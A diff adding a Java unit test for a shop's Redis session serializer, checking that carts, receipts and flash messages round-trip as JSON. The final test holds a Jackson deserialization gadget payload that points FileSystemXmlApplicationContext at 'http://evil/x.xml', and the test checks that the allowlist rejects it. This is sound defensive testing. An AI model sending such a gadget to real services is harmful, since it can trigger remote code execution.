@@ -1,0 +1,51 @@
+package com.dhakacart.storefront.web;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatCode;
+
+import com.dhakacart.storefront.cart.Cart;
+import com.dhakacart.storefront.cart.CartLine;
+import com.dhakacart.storefront.order.OrderReceipts;
+import java.math.BigDecimal;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.springframework.data.redis.serializer.RedisSerializer;
+import org.springframework.web.servlet.FlashMap;
+
+class SessionSerializationTest {
+
+    private final RedisSerializer<Object> serializer = new SessionSerialization().springSessionDefaultRedisSerializer();
+
+    @Test
+    void everyKindOfSessionValueComesBackEqualFromJson() {
+        Cart cart = new Cart(List.of(new CartLine(7, "জামদানি শাড়ি", 2, new BigDecimal("12500.00"))));
+        OrderReceipts receipts = OrderReceipts.NONE.with("DC7K3M9Q2XWAB4", "token-1", "checkout-1");
+        Flash flash = new Flash("notice", "cart.added", List.of("Miniket Rice", 3, new BigDecimal("420.50")));
+        for (Object value : List.of(cart, receipts, flash, 1_732_700_000_000L, 604800)) {
+            byte[] bytes = serializer.serialize(value);
+            // Plain JSON any JSON reader can parse (Java serialization would start with 0xACED).
+            assertThatCode(() -> new com.fasterxml.jackson.databind.ObjectMapper().readTree(bytes))
+                    .as(new String(bytes, StandardCharsets.UTF_8)).doesNotThrowAnyException();
+            assertThat(serializer.deserialize(bytes)).isEqualTo(value);
+        }
+        assertThat(((OrderReceipts) serializer.deserialize(serializer.serialize(receipts))).token("DC7K3M9Q2XWAB4"))
+                .contains("token-1");
+    }
+
+    @Test
+    void aRedirectsFlashMapSurvivesTheRoundTrip() {
+        FlashMap flash = new FlashMap();
+        flash.put("flash", new Flash("error", "cart.too-many", List.of(99)));
+        Object back = serializer.deserialize(serializer.serialize(List.of(flash)));
+        assertThat(back).asList().singleElement().isInstanceOf(FlashMap.class);
+        assertThat(((FlashMap) ((List<?>) back).getFirst()).get("flash")).isEqualTo(flash.get("flash"));
+    }
+
+    @Test
+    void aClassOutsideTheAllowlistOrJavaSerializedBytesReadAsNothing() {
+        String gadget = "{\"@class\":\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"configLocation\":\"http://evil/x.xml\"}";
+        assertThat(serializer.deserialize(gadget.getBytes(StandardCharsets.UTF_8))).isNull();
+        assertThat(serializer.deserialize(new byte[] {(byte) 0xac, (byte) 0xed, 0, 5, 't', 0, 1, 'x'})).isNull();
+    }
+}
